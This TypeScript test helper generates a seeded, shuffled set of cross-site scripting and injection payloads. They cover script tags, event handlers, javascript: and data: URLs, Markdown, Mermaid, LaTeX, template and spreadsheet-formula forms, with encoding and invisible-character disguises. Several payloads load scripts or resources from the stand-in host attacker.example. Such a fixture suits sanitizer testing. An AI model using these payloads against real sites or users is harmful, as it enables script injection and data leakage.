/** What a payload does when it works: calls a function that the test gave to the page, or asks a host that is not ours. */
const calls = [
  "hit()",
  "window.hit()",
  "top['hit']()",
  "hit`1`",
  "eval('hit()')",
  "setTimeout('hit()')",
] as const;
const host = "https://attacker.example";

const elements: readonly ((code: string) => string)[] = [
  (code) => `<script>${code}</script>`,
  (code) => `<ScRiPt >${code}</sCrIpT>`,
  (code) => `<script src="${host}/x.js?${encodeURIComponent(code)}"></script>`,
  (code) => `<scr<script>ipt>${code}</scr</script>ipt>`,
  (code) => `<img src=x onerror="${code}">`,
  (code) => `<img/src=x/onerror=${code.replaceAll(" ", "")}>`,
  (code) => `<IMG """><SCRIPT>${code}</SCRIPT>">`,
  (code) => `<svg onload="${code}"></svg>`,
  (code) => `<svg><script>${code}</script></svg>`,
  (code) => `<svg><animate onbegin="${code}" attributeName=x dur=1s>`,
  (code) => `<svg><a xlink:href="javascript:${code}"><text x=20 y=20>go</text></a></svg>`,
  (code) =>
    `<math><mtext><table><mglyph><style><img src=x onerror="${code}"></style></mglyph></table></mtext></math>`,
  (code) => `<iframe srcdoc="<script>parent.${code}</script>"></iframe>`,
  (code) => `<iframe src="javascript:${code}"></iframe>`,
  (code) => `<object data="javascript:${code}"></object>`,
  (code) => `<embed src="data:text/html,<script>${code}</script>">`,
  (code) => `<video><source onerror="${code}"></video>`,
  (code) => `<audio src=x onerror="${code}">`,
  (code) => `<details open ontoggle="${code}"><summary>x</summary></details>`,
  (code) => `<input autofocus onfocus="${code}">`,
  (code) => `<body onpageshow="${code}">`,
  (code) => `<marquee onstart="${code}">x</marquee>`,
  (code) => `<form action="javascript:${code}"><button autofocus>go</button></form>`,
  (code) => `<a href="javascript:${code}" id=x>go</a>`,
  (code) => `<a href="JaVaScRiPt&colon;${code}">go</a>`,
  (code) => `<style>@import "${host}/${encodeURIComponent(code)}.css";</style>`,
  (code) => `<link rel=stylesheet href="${host}/${encodeURIComponent(code)}.css">`,
  (code) => `<meta http-equiv=refresh content="0;url=${host}/${encodeURIComponent(code)}">`,
  (code) => `<base href="${host}/"><script src="x.js?${encodeURIComponent(code)}"></script>`,
  (code) => `<template><script>${code}</script></template><img src="${host}/t.png">`,
  (code) => `<noscript><p title="</noscript><img src=x onerror=${code}>"></noscript>`,
  (code) => `<xmp><p title="</xmp><svg/onload=${code}>"></xmp>`,
];

const texts: readonly ((code: string) => string)[] = [
  (code) => `[go](javascript:${code})`,
  (code) => `[go](data:text/html,<script>${code}</script>)`,
  (code) => `[go](vbscript:${code})`,
  (code) => `[go](\tjava\nscript:${code})`,
  (code) => `![chart](${host}/${encodeURIComponent(code)}.png)`,
  (code) => `![chart](x "onerror=${code}")`,
  (code) => `[x]: javascript:${code}\n\n[go][x]`,
  (code) => `<javascript:${code}>`,
  (code) => `<${host}/${encodeURIComponent(code)}>`,
  (code) => `\`\`\`mermaid\ngraph TD; a["<img src=x onerror=${code}>"]; click a call ${code}\n\`\`\``,
  (code) => `$\\href{javascript:${code}}{x}$ $\\includegraphics{${host}/k.png}$`,
  (code) => `<!-- ${code} --> <![CDATA[<script>${code}</script>]]>`,
  (code) => `"></title></textarea></style></script><script>${code}</script>`,
  (code) => `' onmouseover='${code}' x='`,
  (code) => `" style="background:url(${host}/s.png)" onfocus="${code}" autofocus="`,
  (code) => `{{constructor.constructor('${code}')()}} \${${code}} #{${code}} <%= ${code} %>`,
  (code) => `javascript:${code}//`,
  (code) => `=HYPERLINK("${host}/${encodeURIComponent(code)}","go")`,
];

const disguises: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (text) => text.replaceAll("<", "\u003c\u200b"),
  (text) => `${text.slice(0, 8)}\u202e${text.slice(8)}`,
  (text) => `\u00a0\r\n${text}\r\n`,
];

/**
 * Hostile texts, all different, in an order that the seed decides: elements with handlers and sources, addresses that run or load,
 * Markdown, diagrams, formulas, breaks out of attributes and templates, each with several calls and disguises.
 */
export function injectionPayloads(count: number, seed: number): string[] {
  const made = new Set<string>();
  for (const disguise of disguises)
    for (const code of calls) for (const make of [...elements, ...texts]) made.add(disguise(make(code)));
  const all = [...made];
  if (count > all.length) throw new Error(`There are ${all.length} payloads, ${count} were asked for.`);
  return shuffled(all, seed).slice(0, count);
}

/** Fisher-Yates with a linear congruential generator: the same seed gives the same order everywhere. */
function shuffled<Item>(items: readonly Item[], seed: number): Item[] {
  const result = [...items];
  let state = seed >>> 0;
  for (let index = result.length - 1; index > 0; index -= 1) {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
    const other = state % (index + 1);
    // Both indices are inside of the array.
    [result[index], result[other]] = [result[other] as Item, result[index] as Item];
  }
  return result;
}
